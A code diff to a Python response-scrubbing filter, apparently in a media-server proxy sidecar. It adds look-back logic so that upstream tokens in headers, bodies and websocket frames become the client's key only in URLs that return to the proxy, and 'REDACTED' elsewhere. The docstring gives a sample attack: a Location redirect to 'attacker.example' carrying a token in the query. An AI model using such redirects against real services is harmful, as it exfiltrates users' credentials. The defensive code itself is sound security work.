@@ -5,7 +5,8 @@ Every channel an upstream answer reaches a client through passes the ``ScrubFilt
 
 - **Headers**: every header name and value, and the status line's reason phrase.
 - **Bodies, whatever their type**: textual bodies (XML, JSON, m3u8, SSE, …) get the
-  client's own key in place of the token (so URLs in them keep working); every other
+  client's own key in place of the token (so URLs in them keep working) where the key may
+  go (below), ``REDACTED`` elsewhere; every other
   body (media, images, ``application/octet-stream``, no type at all) is scanned too
   and the token is masked with ``*`` of the same length, so ``Content-Length`` and byte
   offsets stay exact. A token straddling two chunks is caught: only a tail that could
@@ -26,7 +27,21 @@ Every channel an upstream answer reaches a client through passes the ``ScrubFilt
   so ``sidecar.upstreams.mcp.scrub`` passes each value, its credential part and their escaped forms,
   all replaced by ``REDACTED`` (Plex has one token and keeps its one-token path).
 
-Cost: one ``bytes.replace`` per chunk and one short ``find`` in its last
+**Where the key may go** (``scrub_urls``; DESIGN invariants 1 and 3, the answer-direction twin
+of "an absolute URL never gets a token"): substitution only where the client would send the
+key back to the sidecar itself — a bare value (Plex's ``authToken="…"``), a relative URL, an
+absolute URL to the sidecar's own public origin (``origin``: ``public_origin``'s scheme and
+host). In an absolute URL to any other origin, the upstream's own address included, and
+wherever that cannot be told, the token becomes ``REDACTED``. Why: a malicious or compromised
+upstream answering ``Location: https://attacker.example/?X-Plex-Token=<token>`` (or such a URL
+in a ``thumb=``, a JSON string, a playlist) would otherwise have the sidecar rewrite it into a
+link carrying the client's key, which the client follows. The decision looks back from each
+occurrence to the nearest delimiter (at most 2 KiB, across chunks: the last bytes sent are
+kept), and runs only where the token occurs; headers, the reason phrase and websocket text and
+binary frames are decided the same way. With ``REDACTED`` as replacement (no key: MCP, a
+request without one) nothing is looked at.
+
+Cost: one ``bytes.replace`` (with a key: one ``in``) per chunk and one short ``find`` in its last
 ``len(token) - 1`` bytes: about 8 µs per 64 KiB (~8 GB/s) on the bench machine, some 5-10%
 of a 256 MiB stream through the whole sidecar; on a small answer it is cheaper than before.
 
@@ -44,6 +59,7 @@ from aiohttp import WSMessage, WSMsgType
 from multidict import CIMultiDict, CIMultiDictProxy
 
 from ..core.errors import UpstreamUnavailable
+from .scrub_urls import WINDOW, Origin, key_may_go, own_origin
 
 __all__ = ["ScrubFilter", "Unscrubbable", "restrict_accept_encoding", "whole_needed"]
 
@@ -58,6 +74,8 @@ _ACCEPTABLE: Final = frozenset({"gzip", "x-gzip", "deflate", "identity"})
 MAX_STACK: Final = 3  # Content-Encoding layers decoded at most (``gzip, gzip`` is legal; more is an attack)
 MAX_RATIO: Final = 256  # decoded bytes per encoded byte before a body counts as a decompression bomb
 MIN_DECODE_LIMIT: Final = 1 << 20  # ... but a tiny network chunk may always decode to this much
+REDACTED: Final = "REDACTED"  # what the token becomes where the client's key may not go
+_REDACTED: Final = REDACTED.encode()
 
 
 class Unscrubbable(UpstreamUnavailable):
@@ -167,10 +185,12 @@ class ScrubFilter:
     longest, ``also`` longest first, so a secret that contains another goes as a whole.
     """
 
-    __slots__ = ("_also", "_decoders", "_first", "_mask", "_out", "_outs", "_repl", "_tail", "_tok", "_toks",
-                 "replacement", "token")  # fmt: skip
+    __slots__ = ("_also", "_body_look", "_ctx", "_ctx_cut", "_decoders", "_first", "_look", "_mask", "_origin",
+                 "_origin_raw", "_out", "_outs", "_repl", "_tail", "_tok", "_toks", "replacement", "token")  # fmt: skip
 
-    def __init__(self, token: str, replacement: str, *, also: tuple[str, ...] = ()) -> None:
+    def __init__(
+        self, token: str, replacement: str, *, also: tuple[str, ...] = (), origin: tuple[str, str] | None = None
+    ) -> None:
         self.token = token.encode()
         self.replacement = replacement.encode()
         self._tok, self._repl = token, replacement
@@ -183,6 +203,12 @@ class ScrubFilter:
         self._toks = (token, *extra) if token else extra  # every secret, for headers and frames
         self._also = tuple(a.encode() for a in extra)  # empty for Plex: its one-token path stays as it was
         self._outs = tuple((a, self.replacement) for a in self._also)  # (secret, what it becomes) in bodies
+        # The client's key goes only where the client would send it back to us (``scrub_urls``):
+        # ``origin`` is ``public_origin``'s (scheme, host), read only once a token shows up.
+        self._look = self._body_look = bool(token) and replacement != REDACTED and not extra
+        self._origin_raw = origin
+        self._origin: Origin | None = None
+        self._ctx, self._ctx_cut = b"", False  # the body's last emitted bytes, for the look-back
 
     # ------------------------------------------------------------------ headers
 
@@ -193,11 +219,18 @@ class ScrubFilter:
                 if tok in value:
                     value = value.replace(tok, self._repl)
             return value
-        return value.replace(self._tok, self._repl) if self._tok and self._tok in value else value
+        if not self._tok or self._tok not in value:
+            return value
+        if self._look:
+            return self._swap(value.encode("utf-8", "surrogateescape"), b"", False).decode("utf-8", "surrogateescape")
+        return value.replace(self._tok, self._repl)
 
     def binary(self, data: bytes) -> bytes:
         """A websocket binary frame (its length is framed, so the key may replace the token)."""
-        data = data.replace(self.token, self.replacement) if self.token else data
+        if self._look and self.token in data:
+            data = self._swap(data, b"", False)
+        elif self.token:
+            data = data.replace(self.token, self.replacement)
         for tok in self._also:
             data = data.replace(tok, self.replacement)
         return data
@@ -255,9 +288,11 @@ class ScrubFilter:
                 headers.popall(name, None)
         if _is_text(headers.get("Content-Type", "").lower()):
             self._out = self.replacement
+            self._body_look = self._look
             headers.popall("Content-Length", None)  # the key is not as long as the token
         else:
             self._out = self._mask  # same length: Content-Length and byte offsets stay right
+            self._body_look = False
             self._outs = tuple((a, b"*" * len(a)) for a in self._also)
         return True
 
@@ -276,7 +311,10 @@ class ScrubFilter:
     def scrub(self, chunk: bytes) -> bytes:
         """Replace every secret in decoded bytes, holding back a tail that could start one."""
         data = self._tail + chunk if self._tail else chunk
-        data = data.replace(self.token, self._out)
+        if not self._body_look:
+            data = data.replace(self.token, self._out)
+        elif self.token in data:  # rare: the look-back decides, occurrence by occurrence
+            data = self._swap(data, self._ctx, self._ctx_cut)
         for tok, out in self._outs:
             data = data.replace(tok, out)
         # Hold back only a tail that could start the token, never a fixed width: an SSE
@@ -284,9 +322,46 @@ class ScrubFilter:
         keep = self._partial(data)
         if keep:
             self._tail = data[-keep:]
-            return data[:-keep]
-        self._tail = b""
+            data = data[:-keep]
+        else:
+            self._tail = b""
+        if self._body_look and data:
+            self._remember(data)
         return data
+
+    def _remember(self, out: bytes) -> None:
+        """Keep what went out last (at least ``WINDOW`` bytes of it, by reference when it is that big)."""
+        if len(out) >= WINDOW:
+            self._ctx_cut = self._ctx_cut or bool(self._ctx)
+            self._ctx = out
+            return
+        ctx = self._ctx + out
+        if len(ctx) > WINDOW:
+            ctx, self._ctx_cut = ctx[-WINDOW:], True
+        self._ctx = ctx
+
+    def _swap(self, data: bytes, ctx: bytes, cut: bool) -> bytes:
+        """``data`` with each token replaced by the key where the key may go, by ``REDACTED`` elsewhere.
+
+        ``ctx``: the bytes that went out just before ``data`` (``cut``: not all of them since the start).
+        """
+        if self._origin is None and self._origin_raw is not None:
+            self._origin = own_origin(*self._origin_raw)
+        tok, n, pos = self.token, len(self.token), 0
+        parts: list[bytes] = []
+        i = data.find(tok)
+        while i != -1:
+            if i >= WINDOW:
+                before, at_start = data[i - WINDOW : i], False
+            else:
+                need = WINDOW - i
+                before, at_start = ctx[-need:] + data[:i], not cut and len(ctx) <= need
+            ok = key_may_go(before, at_start=at_start, origin=self._origin)
+            parts += (data[pos:i], self.replacement if ok else _REDACTED)
+            pos = i + n
+            i = data.find(tok, pos)
+        parts.append(data[pos:])
+        return b"".join(parts)
 
     def _partial(self, data: bytes) -> int:
         """Length of the longest end of ``data`` that is a proper beginning of a secret."""
@@ -318,7 +393,10 @@ class ScrubFilter:
         out, self._tail = self._tail + last, b""
         if not out:
             return out
-        out = out.replace(self.token, self._out)
+        if self._body_look and self.token in out:
+            out = self._swap(out, self._ctx, self._ctx_cut)
+        else:
+            out = out.replace(self.token, self._out)
         for tok, rep in self._outs:
             out = out.replace(tok, rep)
         return out
